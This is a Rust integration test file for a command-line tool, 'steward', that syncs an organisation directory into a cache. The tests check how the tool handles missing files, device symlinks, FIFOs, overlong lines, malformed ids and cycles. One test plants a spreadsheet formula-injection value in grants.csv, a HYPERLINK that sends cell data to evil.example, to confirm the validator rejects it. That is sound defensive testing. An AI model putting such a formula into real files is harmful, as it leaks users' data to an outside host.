//! An org directory that lies by omission or holds what is no data, through
//! the real binary: a missing file, a device behind a symlink, a FIFO, an
//! endless line, an id that is a formula, a cycle. Each stops the sync with
//! an error naming the file (and line), exits non-zero, and the cache keeps
//! what it had. References to unknown ids are counted and shown.

use assert_cmd::Command;
use std::path::{Path, PathBuf};

const NOW: &str = "2026-11-24T12:00:00Z";

const REQUIRED: [&str; 7] = [
    "people.csv",
    "teams.toml",
    "rotations.toml",
    "trainings.csv",
    "areas.toml",
    "grants.csv",
    "rules.toml",
];

struct Env {
    dir: tempfile::TempDir,
    org: PathBuf,
    db: PathBuf,
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        let target = to.join(e.file_name());
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &target);
        } else {
            std::fs::copy(e.path(), target).unwrap();
        }
    }
}

/// The demo organization in a fresh directory, synced once.
fn synced() -> Env {
    let dir = tempfile::tempdir().unwrap();
    let org = dir.path().join("org");
    copy_dir(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("assets/demo"),
        &org,
    );
    let env = Env {
        db: dir.path().join("steward.db"),
        org,
        dir,
    };
    let (code, out, err) = sync(&env);
    assert_eq!(code, 0, "{out}{err}");
    env
}

fn run(env: &Env, args: &[&str]) -> (i32, String, String) {
    let out = Command::cargo_bin("steward")
        .unwrap()
        .env_remove("STEWARD_AS")
        .env("STEWARD_NOW", NOW)
        .env("STEWARD_DB", &env.db)
        .env("STEWARD_CONFIG", env.dir.path().join("none.toml"))
        .env("STEWARD_LOG_DIR", env.dir.path().join("logs"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn sync(env: &Env) -> (i32, String, String) {
    run(env, &["sync", "--org", env.org.to_str().unwrap()])
}

/// What the cache holds and what it suggests: unchanged by a failed sync.
fn cache_state(env: &Env) -> (String, String) {
    let (_, status, _) = run(env, &["status"]);
    let cached = status
        .lines()
        .find(|l| l.starts_with("cached:"))
        .unwrap()
        .to_string();
    let (code, suggestions, _) = run(env, &["suggest", "--json"]);
    assert_eq!(code, 0);
    (cached, suggestions)
}

/// A sync that must fail naming `needle`, keeping the cache as it was.
fn refused(env: &Env, needle: &str) -> String {
    let before = cache_state(env);
    let (code, out, err) = sync(env);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains(needle), "wanted {needle:?} in: {err}");
    assert_eq!(cache_state(env), before, "the cache keeps what it had");
    let (_, status, _) = run(env, &["status"]);
    assert!(status.contains("LAST SYNC FAILED"), "{status}");
    err
}

#[test]
fn each_missing_org_file_fails_the_sync_naming_it() {
    let env = synced();
    for name in REQUIRED {
        let path = env.org.join(name);
        let kept = env.dir.path().join(name);
        std::fs::rename(&path, &kept).unwrap();
        let err = refused(&env, &format!("{name}: missing"));
        assert!(
            err.contains(&env.org.join(name).display().to_string()),
            "{err}"
        );
        std::fs::rename(&kept, &path).unwrap();
    }
    // delegations.toml and rotations/ may be absent.
    std::fs::remove_file(env.org.join("delegations.toml")).unwrap();
    std::fs::remove_dir_all(env.org.join("rotations")).unwrap();
    let (code, out, err) = sync(&env);
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn a_configured_files_source_needs_the_files_of_what_it_provides() {
    let env = synced();
    let policy = env.dir.path().join("policy");
    std::fs::create_dir_all(&policy).unwrap();
    std::fs::copy(env.org.join("trainings.csv"), policy.join("trainings.csv")).unwrap();
    let config = env.dir.path().join("steward.toml");
    std::fs::write(
        &config,
        "[[source]]\nkind = \"files\"\nname = \"lms\"\ndir = \"policy\"\nprovides = [\"trainings\", \"rules\"]\n",
    )
    .unwrap();
    let sync_configured = || {
        let out = Command::cargo_bin("steward")
            .unwrap()
            .env("STEWARD_NOW", NOW)
            .env("STEWARD_DB", &env.db)
            .env("STEWARD_CONFIG", &config)
            .env("STEWARD_LOG_DIR", env.dir.path().join("logs"))
            .arg("sync")
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
        )
    };
    let (code, out) = sync_configured();
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("lms: FAILED"), "{out}");
    assert!(
        out.contains("rules.toml: missing: source lms provides trainings, rules"),
        "{out}"
    );
    std::fs::write(policy.join("rules.toml"), "").unwrap();
    let (code, out) = sync_configured();
    assert_eq!(
        code, 0,
        "people.csv and the rest are not its business: {out}"
    );
}

#[cfg(unix)]
#[test]
fn devices_fifos_and_endless_lines_are_refused() {
    let env = synced();
    let people = env.org.join("people.csv");
    let kept = env.dir.path().join("people.csv");
    std::fs::rename(&people, &kept).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &people).unwrap();
    refused(&env, "people.csv: not a regular file (a device)");
    std::fs::remove_file(&people).unwrap();
    let made = std::process::Command::new("mkfifo").arg(&people).status();
    if made.is_ok_and(|s| s.success()) {
        refused(&env, "people.csv: not a regular file (a FIFO)");
        std::fs::remove_file(&people).unwrap();
    }
    // A symlink to a regular file is followed.
    std::os::unix::fs::symlink(&kept, &people).unwrap();
    let (code, out, err) = sync(&env);
    assert_eq!(code, 0, "{out}{err}");
    std::fs::remove_file(&people).unwrap();
    // A field of 2 MiB on line 3.
    let mut text = std::fs::read_to_string(&kept).unwrap();
    let second = text.lines().nth(1).unwrap().len() + text.lines().next().unwrap().len() + 2;
    text.insert_str(second, &format!("x{},", "y".repeat(2 << 20)));
    std::fs::write(&people, text).unwrap();
    refused(
        &env,
        "people.csv:3: a row (or a field in it) is longer than 1 MiB",
    );
    let mut toml = std::fs::read_to_string(env.org.join("teams.toml")).unwrap();
    toml.push_str(&format!("\n# {}\n", "z".repeat(2 << 20)));
    std::fs::copy(&kept, &people).unwrap();
    std::fs::write(env.org.join("teams.toml"), toml).unwrap();
    refused(&env, "teams.toml:");
}

#[test]
fn ids_outside_the_grammar_fail_with_file_and_line() {
    let env = synced();
    let grants = env.org.join("grants.csv");
    let good = std::fs::read_to_string(&grants).unwrap();
    let mut bad = good.clone();
    bad.push_str("\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"ok\"\")\",payments-db:read,,2026-01-01T00:00:00Z,manual,\n");
    std::fs::write(&grants, &bad).unwrap();
    let line = bad.lines().count();
    let err = refused(
        &env,
        &format!("grants.csv:{line}:1: column `person`: person id"),
    );
    assert!(err.contains("may not start with"), "{err}");
    std::fs::write(&grants, &good).unwrap();
    let areas = env.org.join("areas.toml");
    let text = std::fs::read_to_string(&areas).unwrap();
    std::fs::write(
        &areas,
        text.replacen("id = \"payments\"", "id = \"pay ments\"", 1),
    )
    .unwrap();
    refused(&env, "areas.toml:");
    std::fs::write(&areas, &text).unwrap();
    let (code, out, err) = sync(&env);
    assert_eq!(code, 0, "{out}{err}");
}

#[test]
fn a_cycle_fails_the_sync_naming_it() {
    let env = synced();
    let teams = env.org.join("teams.toml");
    let text = std::fs::read_to_string(&teams).unwrap();
    // The root team gets a parent below it.
    let cyclic = text.replacen(
        "id = \"larkspur\"\n",
        "id = \"larkspur\"\nparent = \"payments\"\n",
        1,
    );
    assert_ne!(cyclic, text);
    std::fs::write(&teams, cyclic).unwrap();
    let err = refused(&env, "team parents form a cycle: ");
    assert!(
        err.contains("larkspur") && err.contains("payments"),
        "{err}"
    );
    std::fs::write(&teams, &text).unwrap();
    let people = env.org.join("people.csv");
    let text = std::fs::read_to_string(&people).unwrap();
    std::fs::write(&people, text.replacen(",,active", ",priya,active", 1)).unwrap();
    refused(&env, "managers form a cycle: ");
}

#[test]
fn unknown_references_are_counted_by_sync_and_shown_by_status() {
    let env = synced();
    let rules = env.org.join("rules.toml");
    let mut text = std::fs::read_to_string(&rules).unwrap();
    text.push_str("\n[[rule]]\nid = \"dangling\"\narea = \"nowhere\"\nauthor = \"ghost\"\ngrant = [\"nope:read\"]\nteam = \"payments\"\n");
    std::fs::write(&rules, &text).unwrap();
    let line = text.lines().position(|l| l == "id = \"dangling\"").unwrap() + 1;
    let (code, out, err) = sync(&env);
    assert_eq!(code, 0, "{out}{err}");
    let (_, check, check_err) = run(&env, &["check"]);
    let n = check.lines().count();
    assert_eq!(n, 3, "{check}{check_err}");
    assert!(
        out.contains(&format!("references: {n} problem(s)")),
        "{out}"
    );
    assert!(
        out.contains(&format!(
            "rules.toml:{line}: rule dangling author: unknown person \"ghost\""
        )),
        "{out}"
    );
    let (_, status, _) = run(&env, &["status"]);
    assert!(
        status.contains(&format!("references: {n} problem(s)")),
        "{status}"
    );
    assert!(
        status.contains(&format!("rules.toml:{line}: rule dangling")),
        "{status}"
    );
}
